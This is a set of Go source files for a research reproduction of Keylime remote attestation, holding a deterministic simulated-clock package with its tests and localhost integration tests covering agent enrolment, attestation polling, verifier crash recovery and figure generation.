	want := []int{1, 2, 0}
	for i := range want {
		if order[i] != want[i] {
			t.Fatalf("fire order = %v, want %v", order, want)
		}
	}
}

func TestSimulatedSleepUnblocksOnAdvance(t *testing.T) {
	c := NewSimulated(epoch)
	done := make(chan struct{})
	go func() {
		c.Sleep(time.Minute)
		close(done)
	}()
	// Wait for the sleeper to register.
	for c.PendingWaiters() == 0 {
		time.Sleep(time.Millisecond)
	}
	c.Advance(time.Minute)
	select {
	case <-done:
	case <-time.After(2 * time.Second):
		t.Fatal("Sleep did not return after Advance")
	}
}

func TestSimulatedAdvanceTo(t *testing.T) {
	c := NewSimulated(epoch)
	target := epoch.Add(48 * time.Hour)
	c.AdvanceTo(target)
	if got := c.Now(); !got.Equal(target) {
		t.Fatalf("Now() = %v, want %v", got, target)
	}
	// Moving backwards is a no-op.
	c.AdvanceTo(epoch)
	if got := c.Now(); !got.Equal(target) {
		t.Fatalf("Now() after backwards AdvanceTo = %v, want %v", got, target)
	}
}

func TestRealClockNow(t *testing.T) {
	var c Real
	before := time.Now()
	got := c.Now()
	after := time.Now()
	if got.Before(before) || got.After(after) {
		t.Fatalf("Real.Now() = %v outside [%v, %v]", got, before, after)
	}
}

func TestSimulatedAdvanceToNext(t *testing.T) {
	c := NewSimulated(epoch)
	if c.AdvanceToNext() {
		t.Fatal("AdvanceToNext with no waiters reported a fire")
	}
	chA := c.After(10 * time.Second)
	chB := c.After(10 * time.Second) // same deadline: fires in the same step
	chC := c.After(time.Minute)
	if !c.AdvanceToNext() {
		t.Fatal("AdvanceToNext did not fire")
	}
	want := epoch.Add(10 * time.Second)
	if got := c.Now(); !got.Equal(want) {
		t.Fatalf("Now() = %v, want %v", got, want)
	}
	for name, ch := range map[string]<-chan time.Time{"A": chA, "B": chB} {
		select {
		case at := <-ch:
			if !at.Equal(want) {
				t.Fatalf("waiter %s fired at %v, want %v", name, at, want)
			}
		default:
			t.Fatalf("waiter %s did not fire", name)
		}
	}
	select {
	case <-chC:
		t.Fatal("later waiter fired early")
	default:
	}
	if !c.AdvanceToNext() {
		t.Fatal("second AdvanceToNext did not fire")
	}
	if got := c.Now(); !got.Equal(epoch.Add(time.Minute)) {
		t.Fatalf("Now() = %v, want %v", got, epoch.Add(time.Minute))
	}
	if c.PendingWaiters() != 0 {
		t.Fatalf("PendingWaiters = %d, want 0", c.PendingWaiters())
	}
}
