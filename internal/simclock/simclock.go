// Package simclock provides a Clock abstraction with a real implementation
// backed by the time package and a deterministic simulated implementation
// used to drive multi-week experiments in milliseconds of wall time.
package simclock

import (
	"container/heap"
	"sync"
	"time"
)

// Clock abstracts time for components that sleep or timestamp events, so
// tests and long-horizon experiments can run on virtual time.
type Clock interface {
	// Now returns the current time on this clock.
	Now() time.Time
	// Sleep blocks until the clock has advanced by d.
	Sleep(d time.Duration)
	// After returns a channel that receives the clock time once the clock
	// has advanced by d.
	After(d time.Duration) <-chan time.Time
}

// Real is a Clock backed by the time package. The zero value is ready to use.
type Real struct{}

var _ Clock = Real{}

// Now implements Clock.
func (Real) Now() time.Time { return time.Now() }

// Sleep implements Clock.
func (Real) Sleep(d time.Duration) { time.Sleep(d) }

// After implements Clock.
func (Real) After(d time.Duration) <-chan time.Time { return time.After(d) }

// waiter is a pending timer on a simulated clock.
type waiter struct {
	at time.Time
	ch chan time.Time
	// seq breaks ties so that waiters fire in registration order.
	seq uint64
}

// waiterHeap orders waiters by deadline, then registration order.
type waiterHeap []*waiter

func (h waiterHeap) Len() int { return len(h) }
func (h waiterHeap) Less(i, j int) bool {
	if !h[i].at.Equal(h[j].at) {
		return h[i].at.Before(h[j].at)
	}
	return h[i].seq < h[j].seq
}
func (h waiterHeap) Swap(i, j int) { h[i], h[j] = h[j], h[i] }
func (h *waiterHeap) Push(x any)   { *h = append(*h, x.(*waiter)) }
func (h *waiterHeap) Pop() any {
	old := *h
	n := len(old)
	w := old[n-1]
	old[n-1] = nil
	*h = old[:n-1]
	return w
}

// Simulated is a deterministic Clock whose time only moves when Advance is
// called. Sleepers and After-channels fire synchronously during Advance.
type Simulated struct {
	mu      sync.Mutex
	now     time.Time
	waiters waiterHeap
	seq     uint64
}

var _ Clock = (*Simulated)(nil)

// NewSimulated returns a simulated clock starting at the given instant.
func NewSimulated(start time.Time) *Simulated {
	return &Simulated{now: start}
}

// Now implements Clock.
func (c *Simulated) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

// After implements Clock. The returned channel has capacity one, so Advance
// never blocks on a receiver.
func (c *Simulated) After(d time.Duration) <-chan time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	ch := make(chan time.Time, 1)
	if d <= 0 {
		ch <- c.now
		return ch
	}
	c.seq++
	heap.Push(&c.waiters, &waiter{at: c.now.Add(d), ch: ch, seq: c.seq})
	return ch
}

// Sleep implements Clock. It blocks the calling goroutine until another
// goroutine advances the clock past the deadline.
func (c *Simulated) Sleep(d time.Duration) {
	<-c.After(d)
}

// Advance moves the clock forward by d, firing every timer whose deadline
// falls inside the window in deadline order.
func (c *Simulated) Advance(d time.Duration) {
	c.mu.Lock()
	target := c.now.Add(d)
	for c.waiters.Len() > 0 && !c.waiters[0].at.After(target) {
		w := heap.Pop(&c.waiters).(*waiter)
		c.now = w.at
		w.ch <- c.now
	}
	c.now = target
	c.mu.Unlock()
}

// AdvanceToNext advances the clock to the earliest pending timer deadline
// and fires every timer sharing that deadline. It reports whether any timer
// fired. Test harnesses use it to unblock a goroutine that is sleeping on
// virtual time without having to know the sleep duration.
func (c *Simulated) AdvanceToNext() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.waiters.Len() == 0 {
		return false
	}
	target := c.waiters[0].at
	for c.waiters.Len() > 0 && !c.waiters[0].at.After(target) {
		w := heap.Pop(&c.waiters).(*waiter)
		c.now = w.at
		w.ch <- c.now
	}
	if target.After(c.now) {
		c.now = target
	}
	return true
}

// AdvanceTo moves the clock to instant t (no-op if t is in the past).
func (c *Simulated) AdvanceTo(t time.Time) {
	c.mu.Lock()
	now := c.now
	c.mu.Unlock()
	if t.After(now) {
		c.Advance(t.Sub(now))
	}
}

// PendingWaiters reports how many timers have not fired yet.
func (c *Simulated) PendingWaiters() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.waiters.Len()
}
