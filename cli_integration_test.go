package repro_test

// Integration smoke test for the command-line tools: builds the four
// Keylime binaries, wires them over localhost exactly as README describes,
// and exercises the tenant workflow end to end. Skipped with -short.

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"repro/internal/keylime/audit"
	"repro/internal/keylime/store"
	"repro/internal/keylime/verifier"
)

// freePort grabs an ephemeral port.
func freePort(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	port := ln.Addr().(*net.TCPAddr).Port
	_ = ln.Close()
	return port
}

// waitForPort polls until the address accepts connections.
func waitForPort(t *testing.T, addr string) {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for time.Now().Before(deadline) {
		conn, err := net.DialTimeout("tcp", addr, 200*time.Millisecond)
		if err == nil {
			_ = conn.Close()
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("service at %s did not come up", addr)
}

// startDaemon launches a built binary and kills it at cleanup. The
// returned command lets tests kill the process early to simulate a crash.
func startDaemon(t *testing.T, bin string, args ...string) *exec.Cmd {
	t.Helper()
	cmd := exec.Command(bin, args...)
	cmd.Stdout = os.Stderr
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatalf("starting %s: %v", bin, err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_, _ = cmd.Process.Wait()
	})
	return cmd
}

// kill crash-stops a daemon (SIGKILL, no shutdown hooks).
func kill(t *testing.T, cmd *exec.Cmd) {
	t.Helper()
	if err := cmd.Process.Kill(); err != nil {
		t.Fatalf("kill: %v", err)
	}
	_, _ = cmd.Process.Wait()
}

// buildTools compiles the CLI binaries into a temp dir.
func buildTools(t *testing.T, tools ...string) string {
	t.Helper()
	binDir := t.TempDir()
	for _, tool := range tools {
		out, err := exec.Command("go", "build", "-o", filepath.Join(binDir, tool), "./cmd/"+tool).CombinedOutput()
		if err != nil {
			t.Fatalf("building %s: %v\n%s", tool, err, out)
		}
	}
	return binDir
}

// statusAttestations extracts the attestation count from tenant status
// output.
func statusAttestations(t *testing.T, out string) int {
	t.Helper()
	for _, line := range strings.Split(out, "\n") {
		if rest, ok := strings.CutPrefix(line, "attestations:"); ok {
			n, err := strconv.Atoi(strings.TrimSpace(rest))
			if err != nil {
				t.Fatalf("parsing attestations from %q: %v", line, err)
			}
			return n
		}
	}
	t.Fatalf("no attestations line in status output:\n%s", out)
	return 0
}

func TestCLIEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping CLI integration test in -short mode")
	}
	binDir := buildTools(t, "keylime-registrar", "keylime-agent", "keylime-verifier", "keylime-tenant")
	workDir := t.TempDir()

	regPort := freePort(t)
	agPort := freePort(t)
	verPort := freePort(t)
	caPath := filepath.Join(workDir, "ca.pem")
	policyPath := filepath.Join(workDir, "policy.json")
	stateDir := filepath.Join(workDir, "state")
	const agentUUID = "d432fbb3-d2f1-4a97-9ef7-75bd81c00001"

	// 1. Registrar (creates the manufacturer CA bundle).
	startDaemon(t, filepath.Join(binDir, "keylime-registrar"),
		"-init", "-ca", caPath, "-listen", fmt.Sprintf("127.0.0.1:%d", regPort))
	waitForPort(t, fmt.Sprintf("127.0.0.1:%d", regPort))

	// 2. Agent host.
	startDaemon(t, filepath.Join(binDir, "keylime-agent"),
		"-ca", caPath,
		"-registrar", fmt.Sprintf("http://127.0.0.1:%d", regPort),
		"-listen", fmt.Sprintf("127.0.0.1:%d", agPort),
		"-contact-url", fmt.Sprintf("http://127.0.0.1:%d", agPort),
		"-policy-out", policyPath,
		"-uuid", agentUUID,
	)
	waitForPort(t, fmt.Sprintf("127.0.0.1:%d", agPort))

	// 3. Verifier with fast polling and state persistence.
	startDaemon(t, filepath.Join(binDir, "keylime-verifier"),
		"-listen", fmt.Sprintf("127.0.0.1:%d", verPort),
		"-registrar", fmt.Sprintf("http://127.0.0.1:%d", regPort),
		"-poll-interval", "200ms",
		"-state", stateDir,
	)
	waitForPort(t, fmt.Sprintf("127.0.0.1:%d", verPort))

	tenant := func(args ...string) (string, error) {
		full := append([]string{"-verifier", fmt.Sprintf("http://127.0.0.1:%d", verPort)}, args...)
		out, err := exec.Command(filepath.Join(binDir, "keylime-tenant"), full...).CombinedOutput()
		return string(out), err
	}

	// 4. Enroll the agent via the tenant.
	out, err := tenant("add", "-agent-id", agentUUID,
		"-agent-url", fmt.Sprintf("http://127.0.0.1:%d", agPort),
		"-policy", policyPath)
	if err != nil {
		t.Fatalf("tenant add: %v\n%s", err, out)
	}
	if !strings.Contains(out, "enrolled") {
		t.Fatalf("tenant add output: %s", out)
	}

	// 5. Wait for healthy attestations to accumulate.
	deadline := time.Now().Add(20 * time.Second)
	for {
		out, err = tenant("status", "-agent-id", agentUUID)
		if err != nil {
			t.Fatalf("tenant status: %v\n%s", err, out)
		}
		if strings.Contains(out, "state:            Get Quote") &&
			!strings.Contains(out, "attestations:     0") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("agent never reached healthy attestation:\n%s", out)
		}
		time.Sleep(200 * time.Millisecond)
	}
	if strings.Contains(out, "halted:           true") {
		t.Fatalf("agent halted unexpectedly:\n%s", out)
	}

	// 6. The verifier journals the agent's row into its state directory.
	// (Raw byte check only: opening the live journal would race the
	// daemon's appends.)
	stateDeadline := time.Now().Add(10 * time.Second)
	for {
		if data, err := os.ReadFile(filepath.Join(stateDir, store.JournalFile)); err == nil &&
			bytes.Contains(data, []byte(agentUUID)) {
			break
		}
		if time.Now().After(stateDeadline) {
			t.Fatal("verifier never journaled the agent's state row")
		}
		time.Sleep(200 * time.Millisecond)
	}

	// 7. Remove the agent.
	if out, err := tenant("remove", "-agent-id", agentUUID); err != nil {
		t.Fatalf("tenant remove: %v\n%s", err, out)
	}
	if out, err := tenant("status", "-agent-id", agentUUID); err == nil {
		t.Fatalf("status after remove succeeded:\n%s", out)
	}
}

// TestCLIVerifierCrashRecovery kills the verifier mid-poll and restarts
// it on the same state directory: the verification frontier, the
// quarantine (breaker) state, and the audit chain must all survive the
// crash.
func TestCLIVerifierCrashRecovery(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping CLI integration test in -short mode")
	}
	binDir := buildTools(t, "keylime-registrar", "keylime-agent", "keylime-verifier", "keylime-tenant")
	workDir := t.TempDir()

	regPort := freePort(t)
	agAPort := freePort(t)
	agBPort := freePort(t)
	verPort := freePort(t)
	caPath := filepath.Join(workDir, "ca.pem")
	stateDir := filepath.Join(workDir, "state")
	auditPath := filepath.Join(workDir, "audit.wal")
	const uuidA = "d432fbb3-d2f1-4a97-9ef7-75bd81c00011"
	const uuidB = "d432fbb3-d2f1-4a97-9ef7-75bd81c00012"

	startDaemon(t, filepath.Join(binDir, "keylime-registrar"),
		"-init", "-ca", caPath, "-listen", fmt.Sprintf("127.0.0.1:%d", regPort))
	waitForPort(t, fmt.Sprintf("127.0.0.1:%d", regPort))

	agents := map[string]*exec.Cmd{}
	policies := map[string]string{}
	for uuid, port := range map[string]int{uuidA: agAPort, uuidB: agBPort} {
		policies[uuid] = filepath.Join(workDir, "policy-"+uuid+".json")
		agents[uuid] = startDaemon(t, filepath.Join(binDir, "keylime-agent"),
			"-ca", caPath,
			"-registrar", fmt.Sprintf("http://127.0.0.1:%d", regPort),
			"-listen", fmt.Sprintf("127.0.0.1:%d", port),
			"-contact-url", fmt.Sprintf("http://127.0.0.1:%d", port),
			"-policy-out", policies[uuid],
			"-uuid", uuid,
		)
		waitForPort(t, fmt.Sprintf("127.0.0.1:%d", port))
	}

	// Fast polling, single-attempt fetches, and a hair-trigger breaker so
	// killing an agent quarantines it quickly; the long reprobe interval
	// keeps it quarantined across the verifier restart.
	verifierArgs := func(pollInterval string) []string {
		return []string{
			"-listen", fmt.Sprintf("127.0.0.1:%d", verPort),
			"-registrar", fmt.Sprintf("http://127.0.0.1:%d", regPort),
			"-poll-interval", pollInterval,
			"-retry-attempts", "1",
			"-request-timeout", "2s",
			"-breaker-threshold", "2",
			"-breaker-interval", "5m",
			"-state", stateDir,
			"-audit-log", auditPath,
		}
	}
	ver := startDaemon(t, filepath.Join(binDir, "keylime-verifier"), verifierArgs("200ms")...)
	waitForPort(t, fmt.Sprintf("127.0.0.1:%d", verPort))

	tenant := func(args ...string) (string, error) {
		full := append([]string{"-verifier", fmt.Sprintf("http://127.0.0.1:%d", verPort)}, args...)
		out, err := exec.Command(filepath.Join(binDir, "keylime-tenant"), full...).CombinedOutput()
		return string(out), err
	}
	status := func(uuid string) string {
		t.Helper()
		out, err := tenant("status", "-agent-id", uuid)
		if err != nil {
			t.Fatalf("tenant status %s: %v\n%s", uuid, err, out)
		}
		return out
	}
	waitFor := func(what string, ok func() bool) {
		t.Helper()
		deadline := time.Now().Add(30 * time.Second)
		for !ok() {
			if time.Now().After(deadline) {
				t.Fatalf("timed out waiting for %s", what)
			}
			time.Sleep(150 * time.Millisecond)
		}
	}

	for uuid, port := range map[string]int{uuidA: agAPort, uuidB: agBPort} {
		if out, err := tenant("add", "-agent-id", uuid,
			"-agent-url", fmt.Sprintf("http://127.0.0.1:%d", port),
			"-policy", policies[uuid]); err != nil {
			t.Fatalf("tenant add %s: %v\n%s", uuid, err, out)
		}
	}
	waitFor("both agents attesting", func() bool {
		return statusAttestations(t, status(uuidA)) >= 1 && statusAttestations(t, status(uuidB)) >= 1
	})

	// Kill agent B: consecutive comms faults trip the breaker.
	kill(t, agents[uuidB])
	waitFor("agent B quarantined", func() bool {
		return strings.Contains(status(uuidB), "state:            Quarantined")
	})

	// Sample agent A's frontier, then let it advance two more rounds: the
	// sweep loop persists after every round, so by the time the count
	// reads sampled+2 the persisted row is at least sampled+1.
	sampled := statusAttestations(t, status(uuidA))
	waitFor("agent A two rounds past the sample", func() bool {
		return statusAttestations(t, status(uuidA)) >= sampled+2
	})

	// Crash the verifier mid-poll (SIGKILL, no shutdown hooks).
	kill(t, ver)

	// Offline: the audit journal must recover to a verifiable chain (a
	// torn final record is truncated, nothing else lost).
	jl, err := audit.OpenJournal(store.OS(), auditPath)
	if err != nil {
		t.Fatalf("audit journal did not survive the crash: %v", err)
	}
	auditRecs := jl.Log.Len()
	if auditRecs < sampled {
		t.Fatalf("audit chain holds %d records, want >= %d", auditRecs, sampled)
	}
	if err := audit.VerifyChain(jl.Log.Records()); err != nil {
		t.Fatalf("audit chain invalid after crash: %v", err)
	}
	_ = jl.Close()

	// Offline: the state store must hold both agents — A at or past the
	// sampled frontier, B quarantined.
	st, err := store.Open(stateDir)
	if err != nil {
		t.Fatalf("state store did not survive the crash: %v", err)
	}
	rows := st.All()
	_ = st.Close()
	var rowA, rowB verifier.AgentState
	if err := json.Unmarshal(rows[uuidA], &rowA); err != nil {
		t.Fatalf("agent A row: %v", err)
	}
	if err := json.Unmarshal(rows[uuidB], &rowB); err != nil {
		t.Fatalf("agent B row: %v", err)
	}
	if rowA.Attestations < sampled+1 {
		t.Fatalf("persisted frontier %d, want >= %d", rowA.Attestations, sampled+1)
	}
	if rowA.NextOffset == 0 {
		t.Fatal("agent A persisted without a verification frontier")
	}
	if verifier.State(rowB.State) != verifier.StateQuarantined || rowB.Breaker == nil {
		t.Fatalf("agent B persisted as state=%d breaker=%+v, want quarantined", rowB.State, rowB.Breaker)
	}

	// Restart on the same state directory and port.
	startDaemon(t, filepath.Join(binDir, "keylime-verifier"), verifierArgs("300ms")...)
	waitForPort(t, fmt.Sprintf("127.0.0.1:%d", verPort))

	// The restored frontier is immediately visible — before any new round
	// could have rebuilt it — and agent B is still quarantined without
	// having to re-trip the breaker.
	restored := statusAttestations(t, status(uuidA))
	if restored < sampled+1 {
		t.Fatalf("restored frontier %d, want >= %d", restored, sampled+1)
	}
	outB := status(uuidB)
	if !strings.Contains(outB, "state:            Quarantined") {
		t.Fatalf("agent B not quarantined after restart:\n%s", outB)
	}

	// And attestation resumes incrementally from the frontier.
	waitFor("agent A attesting past the restored frontier", func() bool {
		return statusAttestations(t, status(uuidA)) > restored
	})
}

func TestCLIPolicygen(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping CLI test in -short mode")
	}
	workDir := t.TempDir()
	out := filepath.Join(workDir, "policy.json")
	cmd := exec.Command("go", "run", "./cmd/policygen", "-days", "3", "-scale", "small", "-out", out)
	output, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("policygen: %v\n%s", err, output)
	}
	text := string(output)
	if !strings.Contains(text, "initial policy:") || !strings.Contains(text, "day 03:") {
		t.Fatalf("policygen output incomplete:\n%s", text)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatalf("reading %s: %v", out, err)
	}
	if len(data) < 100 || !strings.Contains(string(data), "digests") {
		t.Fatalf("policy file looks wrong (%d bytes)", len(data))
	}
}

func TestCLIReproFigure(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping CLI test in -short mode")
	}
	csvDir := t.TempDir()
	cmd := exec.Command("go", "run", "./cmd/repro", "-exp", "fig3", "-csv", csvDir)
	output, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("repro -exp fig3: %v\n%s", err, output)
	}
	text := string(output)
	for _, want := range []string{"Fig. 3", "day 01", "mean="} {
		if !strings.Contains(text, want) {
			t.Fatalf("repro output missing %q:\n%s", want, text)
		}
	}
}
