package repro_test

// Integration smoke test for the command-line tools: builds the four
// Keylime binaries, wires them over localhost exactly as README describes,
// and exercises the tenant workflow end to end. Skipped with -short.

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// freePort grabs an ephemeral port.
func freePort(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	port := ln.Addr().(*net.TCPAddr).Port
	_ = ln.Close()
	return port
}

// waitForPort polls until the address accepts connections.
func waitForPort(t *testing.T, addr string) {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for time.Now().Before(deadline) {
		conn, err := net.DialTimeout("tcp", addr, 200*time.Millisecond)
		if err == nil {
			_ = conn.Close()
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("service at %s did not come up", addr)
}

// startDaemon launches a built binary and kills it at cleanup.
func startDaemon(t *testing.T, bin string, args ...string) {
	t.Helper()
	cmd := exec.Command(bin, args...)
	cmd.Stdout = os.Stderr
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatalf("starting %s: %v", bin, err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_, _ = cmd.Process.Wait()
	})
}

func TestCLIEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping CLI integration test in -short mode")
	}
	binDir := t.TempDir()
	workDir := t.TempDir()
	for _, tool := range []string{"keylime-registrar", "keylime-agent", "keylime-verifier", "keylime-tenant"} {
		out, err := exec.Command("go", "build", "-o", filepath.Join(binDir, tool), "./cmd/"+tool).CombinedOutput()
		if err != nil {
			t.Fatalf("building %s: %v\n%s", tool, err, out)
		}
	}

	regPort := freePort(t)
	agPort := freePort(t)
	verPort := freePort(t)
	caPath := filepath.Join(workDir, "ca.pem")
	policyPath := filepath.Join(workDir, "policy.json")
	statePath := filepath.Join(workDir, "state.json")
	const agentUUID = "d432fbb3-d2f1-4a97-9ef7-75bd81c00001"

	// 1. Registrar (creates the manufacturer CA bundle).
	startDaemon(t, filepath.Join(binDir, "keylime-registrar"),
		"-init", "-ca", caPath, "-listen", fmt.Sprintf("127.0.0.1:%d", regPort))
	waitForPort(t, fmt.Sprintf("127.0.0.1:%d", regPort))

	// 2. Agent host.
	startDaemon(t, filepath.Join(binDir, "keylime-agent"),
		"-ca", caPath,
		"-registrar", fmt.Sprintf("http://127.0.0.1:%d", regPort),
		"-listen", fmt.Sprintf("127.0.0.1:%d", agPort),
		"-contact-url", fmt.Sprintf("http://127.0.0.1:%d", agPort),
		"-policy-out", policyPath,
		"-uuid", agentUUID,
	)
	waitForPort(t, fmt.Sprintf("127.0.0.1:%d", agPort))

	// 3. Verifier with fast polling and state persistence.
	startDaemon(t, filepath.Join(binDir, "keylime-verifier"),
		"-listen", fmt.Sprintf("127.0.0.1:%d", verPort),
		"-registrar", fmt.Sprintf("http://127.0.0.1:%d", regPort),
		"-poll-interval", "200ms",
		"-state", statePath,
	)
	waitForPort(t, fmt.Sprintf("127.0.0.1:%d", verPort))

	tenant := func(args ...string) (string, error) {
		full := append([]string{"-verifier", fmt.Sprintf("http://127.0.0.1:%d", verPort)}, args...)
		out, err := exec.Command(filepath.Join(binDir, "keylime-tenant"), full...).CombinedOutput()
		return string(out), err
	}

	// 4. Enroll the agent via the tenant.
	out, err := tenant("add", "-agent-id", agentUUID,
		"-agent-url", fmt.Sprintf("http://127.0.0.1:%d", agPort),
		"-policy", policyPath)
	if err != nil {
		t.Fatalf("tenant add: %v\n%s", err, out)
	}
	if !strings.Contains(out, "enrolled") {
		t.Fatalf("tenant add output: %s", out)
	}

	// 5. Wait for healthy attestations to accumulate.
	deadline := time.Now().Add(20 * time.Second)
	for {
		out, err = tenant("status", "-agent-id", agentUUID)
		if err != nil {
			t.Fatalf("tenant status: %v\n%s", err, out)
		}
		if strings.Contains(out, "state:            Get Quote") &&
			!strings.Contains(out, "attestations:     0") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("agent never reached healthy attestation:\n%s", out)
		}
		time.Sleep(200 * time.Millisecond)
	}
	if strings.Contains(out, "halted:           true") {
		t.Fatalf("agent halted unexpectedly:\n%s", out)
	}

	// 6. The verifier persists its state file.
	stateDeadline := time.Now().Add(10 * time.Second)
	for {
		if data, err := os.ReadFile(statePath); err == nil && len(data) > 2 {
			break
		}
		if time.Now().After(stateDeadline) {
			t.Fatal("verifier never wrote its state file")
		}
		time.Sleep(200 * time.Millisecond)
	}

	// 7. Remove the agent.
	if out, err := tenant("remove", "-agent-id", agentUUID); err != nil {
		t.Fatalf("tenant remove: %v\n%s", err, out)
	}
	if out, err := tenant("status", "-agent-id", agentUUID); err == nil {
		t.Fatalf("status after remove succeeded:\n%s", out)
	}
}

func TestCLIPolicygen(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping CLI test in -short mode")
	}
	workDir := t.TempDir()
	out := filepath.Join(workDir, "policy.json")
	cmd := exec.Command("go", "run", "./cmd/policygen", "-days", "3", "-scale", "small", "-out", out)
	output, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("policygen: %v\n%s", err, output)
	}
	text := string(output)
	if !strings.Contains(text, "initial policy:") || !strings.Contains(text, "day 03:") {
		t.Fatalf("policygen output incomplete:\n%s", text)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatalf("reading %s: %v", out, err)
	}
	if len(data) < 100 || !strings.Contains(string(data), "digests") {
		t.Fatalf("policy file looks wrong (%d bytes)", len(data))
	}
}

func TestCLIReproFigure(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping CLI test in -short mode")
	}
	csvDir := t.TempDir()
	cmd := exec.Command("go", "run", "./cmd/repro", "-exp", "fig3", "-csv", csvDir)
	output, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("repro -exp fig3: %v\n%s", err, output)
	}
	text := string(output)
	for _, want := range []string{"Fig. 3", "day 01", "mean="} {
		if !strings.Contains(text, want) {
			t.Fatalf("repro output missing %q:\n%s", want, text)
		}
	}
}
